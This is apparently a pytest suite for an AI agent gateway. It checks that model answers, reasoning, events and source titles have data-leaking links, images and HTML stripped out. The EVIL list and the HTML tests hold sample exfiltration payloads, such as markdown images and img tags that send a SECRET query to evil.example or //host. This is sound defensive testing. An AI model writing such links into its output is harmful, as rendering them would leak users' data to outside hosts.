"""What a page can make of an answer, of its events and of its reasoning: no link, no picture, and no request."""

from __future__ import annotations

import json
from typing import Any

import pytest

from engine.base import Delta
from tests.support.agent_models import AGENTS, content, place
from tests.support.app import Start
from tests.support.frames import chunks
from tests.support.markdown_links import unsafe
from tests.support.scripted_model import Address, FakeTool, tokens

pytestmark = pytest.mark.anyio

EVIL = [
    "![x](//host/?q=SECRET)",
    "[x](https&#58;//evil.example/?q=SECRET)",
    "<img src=//evil.example/?q=SECRET>",
    "[a][r]\n\n[r]: //evil.example/S",
    "https://evil.example/?q=SECRET",
    "<https://evil.example/?q=SECRET>",
    "[x](https://common.example/page?q=SECRET)",
    "www.evil.example/SECRET",
]
TEXT = "\n\n".join(EVIL)
READ = "https://common.example/page"


def live(text: str) -> list[tuple[str, str]]:
    """Return what is live in a text, but for what was read."""
    return [
        one
        for one in unsafe(text)
        if not one[1].startswith(("https://query-", "https://common.example/page")) or "SECRET" in one[1]
    ]


@pytest.mark.parametrize("workflow", AGENTS)
async def test_nothing_in_an_answer_leads_where_nobody_read(start: Start, workflow: str) -> None:
    thinking = [Delta("", reasoning=f"{TEXT} "), *tokens(f"{TEXT}\n\nIt is so [1]. [Read]({READ})")]
    decide = {"action": "answer", "tool": "", "arguments": ""}
    scripts: dict[str, Any] = {
        "answer": thinking,
        "complex_answer": thinking,
        "complex_tools": decide,
        "notes": TEXT,
        "complex_step": TEXT,
    }
    here = await place(start, workflow, scripts=scripts)
    body = (await here.gateway.chat(stream=True)).content
    frames = chunks(body)
    answer = content(frames)
    assert "SECRET" not in answer
    assert not live(answer)
    if workflow != "complex":
        # Some read it; others only found it, and then it is shown as code.
        assert f"[Read]({READ})" in answer or f"[Read] (`{READ}`)" in answer
    reasoning = "".join(
        frame["choices"][0]["delta"].get("reasoning_content") or "" for frame in frames if frame["choices"]
    )
    assert reasoning
    assert "SECRET" not in reasoning
    assert not live(reasoning)
    events = [event for frame in frames for event in frame.get("shannon_events", [])]
    assert events
    for event in events:
        assert not live(event["message"]), event


async def test_links_in_bound_answers_are_taken_out_and_json_stays_json(start: Start) -> None:
    said = json.dumps(
        {"text": "![x](//host/?q=SECRET) \u00e9 [r](javascript:x)", "n": 1, "url": "https://evil.example/"}
    )
    here = await place(start, "quick_research", scripts={"answer": said})
    body = (await here.gateway.chat(response_format={"type": "json_object"})).json()
    text = json.loads(body["choices"][0]["message"]["content"])
    assert text == {
        "text": "[x]([address removed]) \u00e9 [r]([address removed])",
        "n": 1,
        "url": "https://evil.example/",
    }


async def test_html_in_bound_answers_loads_nothing(start: Start) -> None:
    said = {
        "a": "<img src=//host/?q=SECRET> <a\nhref='//host/S'> <img/src=x> <STYLE>@import '//host/S'</STYLE> <svg>",
        "c": "<mailto:a@b> <https:evil.com/S> <JavaScript:x> <!x@evil.com> <3_x@evil.com> <https:\\\\evil>",
        "b": "<p>List<String> a<b, x <3 <br/> <br> </p> <!-- x --> <T, U> <soap:Body> <-> <=",
    }
    here = await place(start, "quick_research", scripts={"answer": json.dumps(said)})
    body = (await here.gateway.chat(response_format={"type": "json_object"})).json()
    text = json.loads(body["choices"][0]["message"]["content"])
    assert text["a"] == (
        "&lt;img src=//host/?q=SECRET> &lt;a\nhref='//host/S'> &lt;img/src=x> "
        "&lt;STYLE>@import '//host/S'</STYLE> &lt;svg>"
    )
    assert text["c"] == said["c"].replace("<", "&lt;")
    assert text["b"] == said["b"]


async def test_arguments_of_tools_in_events_lead_nowhere(start: Start) -> None:
    turns = [
        {
            "action": "call",
            "tool": "web_fetch",
            "arguments": json.dumps({"url": f"https://evil.example/?q=SECRET {EVIL[0]}", "n": 1}),
        },
        {"action": "call", "tool": "web_fetch", "arguments": json.dumps({"url": READ})},
        {"action": "answer", "tool": "", "arguments": ""},
    ]
    scripts: dict[str, Any] = {"complex_tools": lambda request: turns.pop(0) if turns else turns}
    here = await place(start, "complex", scripts=scripts)
    fields = {"messages": [{"role": "user", "content": f"Read {READ}"}]}
    body = (await here.gateway.chat(**fields)).json()
    params = [event["payload"]["params"] for event in body["shannon_events"] if event["type"] == "TOOL_INVOKED"]
    assert params[:2] == [{"url": "[address removed] [x]([address removed])", "n": 1}, {"url": READ}]


async def test_titles_of_sources_are_no_markdown(start: Start) -> None:
    here = await place(start, "quick_research")
    here.fetch.found = lambda arguments: _titled(arguments.url)  # type: ignore[method-assign]
    body = (await here.gateway.chat()).json()
    assert not live(body["choices"][0]["message"]["content"])
    done = body["shannon_events"][-1]["payload"]["sources"]
    assert done
    assert all(not live(source["title"]) for source in done)


def _titled(url: str) -> Any:
    from gateway.tools.base import Observation, Source

    return Observation("text", [Source(url, " ".join(EVIL), fetched=True)])


async def test_pictures_of_hosts_that_the_operator_allows_are_shown(start: Start) -> None:
    said = "![a](https://pictures.example/x?q=1) ![b](https://evil.example/x)"
    here = await place(start, "quick_research", scripts={"answer": said})
    assert "![" not in (await here.gateway.chat()).json()["choices"][0]["message"]["content"]
    config = here.gateway.services.config
    allowing = config.model_copy(update={"answers": config.answers.model_copy(update={"images": ["pictures.example"]})})
    object.__setattr__(here.gateway.services, "config", allowing)
    text = (await here.gateway.chat()).json()["choices"][0]["message"]["content"]
    assert text.startswith("![a](https://pictures.example/x?q=1) [b]([address removed])")


# Tools of a model


def named(events: list[dict[str, Any]]) -> set[str]:
    return {event["payload"]["tool"] for event in events if event["type"] == "TOOL_INVOKED"}


async def test_a_model_uses_only_its_tools(start: Start) -> None:
    here = await place(start, "quick_research", settings={"tools": ["web_search"]}, tools=(FakeTool("local_search"),))
    body = (await here.gateway.chat()).json()
    assert named(body["shannon_events"]) == {"web_search"}


@pytest.mark.parametrize("wanted", ["local_search", "web_fetch"])
async def test_a_request_only_narrows_the_tools_of_its_model(start: Start, wanted: str) -> None:
    here = await place(
        start, "quick_research", settings={"tools": ["web_search"]}, tools=(FakeTool("local_search", Address),)
    )
    response = await here.gateway.chat(shannon_options={"tools": [wanted]})
    assert response.status_code == 400
    assert response.json()["error"]["param"] == "shannon_options.tools"
    assert "The tools are: web_search." in response.json()["error"]["message"]
    assert (await here.gateway.chat(shannon_options={"tools": []})).status_code == 200
